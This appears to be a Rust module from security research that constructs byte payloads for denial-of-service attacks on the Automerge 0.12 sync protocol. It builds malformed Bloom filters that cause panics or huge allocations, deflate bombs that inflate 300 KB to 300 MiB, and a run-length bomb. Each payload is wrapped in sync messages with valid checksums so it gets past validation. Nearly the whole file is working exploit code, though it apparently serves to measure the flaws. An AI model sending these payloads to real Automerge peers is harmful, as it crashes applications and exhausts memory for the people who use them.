//! The bytes of the measured attacks on Automerge 0.12, and the envelope they travel in.

use flate2::{Compression, write::DeflateEncoder};
use sha2::{Digest, Sha256};
use std::io::Write;

/// A sync message whose Bloom filter has one entry and no bits: the next message that Automerge makes panics.
pub fn zero_bit_bloom_filter() -> Vec<u8> {
    with_bloom_filter(&[1, 0, 7])
}

/// A sync message whose Bloom filter asks for 2^32 - 1 probes: Automerge allocates them all and aborts.
pub fn endless_probes() -> Vec<u8> {
    with_bloom_filter(&[&[1, 10][..], &leb(u64::from(u32::MAX)), &[0, 0]].concat())
}

/// A sync message with a compressed change of about 300 KB that inflates to 300 MiB.
pub fn deflate_bomb() -> Vec<u8> {
    let bomb = deflated_zeros(300);
    message(&[[&[0x85, 0x6f, 0x4a, 0x83, 0, 0, 0, 0, 2][..], &leb(bomb.len() as u64), &bomb].concat()])
}

/// A sync message with a document whose one column inflates to 300 MiB.
pub fn deflated_column_bomb() -> Vec<u8> {
    let bomb = deflated_zeros(300);
    // No actors, no heads, one deflated change column (actor, 0x01 | 0x08), no operation columns.
    let body = [&[0, 0, 1, 9][..], &leb(bomb.len() as u64), &[0], &bomb].concat();
    message(&[chunk(0, &body)])
}

/// A sync message with one legitimate change of about a hundred bytes that makes a list and inserts `count` nulls.
pub fn run_length_bomb(count: u64) -> Vec<u8> {
    message(&[run_length_change(count)])
}

fn run_length_change(count: u64) -> Vec<u8> {
    let columns = [
        (0x01, [nulls(1), run(count, &[0])].concat()),
        (0x02, [nulls(1), run(count, &[1])].concat()),
        (0x11, [nulls(2), run(count - 1, &[0])].concat()),
        (0x13, [nulls(1), sleb(-2), vec![0, 2], run(count - 2, &[1])].concat()),
        (0x15, [run(1, &[1, b'l']), nulls(count)].concat()),
        (0x34, [leb(1), leb(count)].concat()),
        (0x42, [run(1, &[2]), run(count, &[1])].concat()),
        (0x56, run(count + 1, &[0])),
        (0x70, run(count + 1, &[0])),
    ];
    // No dependencies; actor 0xaa, sequence 1, start 1, time 0, no message, no other actors.
    let mut body = vec![0, 1, 0xaa, 1, 1, 0, 0, 0];
    body.extend(leb(columns.len() as u64));
    for (spec, bytes) in &columns {
        body.extend(leb(*spec));
        body.extend(leb(bytes.len() as u64));
    }
    body.extend(columns.iter().flat_map(|(_, bytes)| bytes));
    chunk(1, &body)
}

/// A sync message that carries these chunks and nothing else.
pub fn message(chunks: &[Vec<u8>]) -> Vec<u8> {
    let mut out = [vec![0x42, 0, 0, 0], leb(chunks.len() as u64)].concat();
    for chunk in chunks {
        out.extend(leb(chunk.len() as u64));
        out.extend(chunk);
    }
    out
}

/// A sync message with one `have` row that has this Bloom filter.
fn with_bloom_filter(filter: &[u8]) -> Vec<u8> {
    [&[0x42, 0, 0, 1, 0][..], &leb(filter.len() as u64), filter, &[0]].concat()
}

/// A chunk with the right checksum.
fn chunk(kind: u8, body: &[u8]) -> Vec<u8> {
    let length = leb(body.len() as u64);
    let hash = Sha256::new().chain_update([kind]).chain_update(&length).chain_update(body).finalize();
    [&[0x85, 0x6f, 0x4a, 0x83], &hash[..4], &[kind], &length, body].concat()
}

fn deflated_zeros(mebibytes: usize) -> Vec<u8> {
    let mut encoder = DeflateEncoder::new(Vec::new(), Compression::best());
    let zeros = vec![0; 1 << 20];
    (0..mebibytes).try_for_each(|_| encoder.write_all(&zeros)).expect("a vector takes all");
    encoder.finish().expect("a vector takes all")
}

/// A run of equal values; the value is encoded already.
fn run(count: u64, value: &[u8]) -> Vec<u8> {
    let head = if count == 1 { sleb(-1) } else { sleb(count.cast_signed()) };
    [&head, value].concat()
}

fn nulls(count: u64) -> Vec<u8> {
    [vec![0], leb(count)].concat()
}

fn leb(mut number: u64) -> Vec<u8> {
    let mut out = Vec::new();
    while number >= 0x80 {
        out.push(low_seven(number) | 0x80);
        number >>= 7;
    }
    out.push(low_seven(number));
    out
}

fn sleb(mut number: i64) -> Vec<u8> {
    let mut out = Vec::new();
    loop {
        let byte = low_seven(number.cast_unsigned());
        number >>= 7;
        if (number == 0 && byte & 0x40 == 0) || (number == -1 && byte & 0x40 != 0) {
            out.push(byte);
            return out;
        }
        out.push(byte | 0x80);
    }
}

fn low_seven(number: u64) -> u8 {
    (number & 0x7f) as u8
}
